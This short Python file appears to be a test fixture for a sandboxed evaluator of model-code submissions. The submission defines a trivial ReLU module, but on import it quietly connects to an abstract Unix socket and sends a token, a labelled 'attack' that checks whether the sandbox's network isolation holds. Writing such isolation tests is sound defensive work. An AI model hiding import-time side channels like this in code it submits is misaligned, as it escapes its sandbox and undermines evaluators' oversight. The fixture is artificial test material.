# Attack (network, abstract Unix socket): connects to an abstract-namespace Unix socket the test listens
# on. Abstract sockets ignore the file system (a read-only or hidden file system does not stop them);
# only a network namespace does. A trusted evaluator: the listener never sees a connection.
import socket

import torch
from torch import nn

TOKEN = "@TOKEN@"
NAME = "@ABSTRACT@"


def _connect():
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect("\0" + NAME)
        s.sendall(("unix-py:" + TOKEN).encode())
        s.close()
    except OSError:
        pass


_connect()


class ModelNew(nn.Module):
    def __init__(self, *args):
        super().__init__()

    def forward(self, x):
        return torch.relu(x)
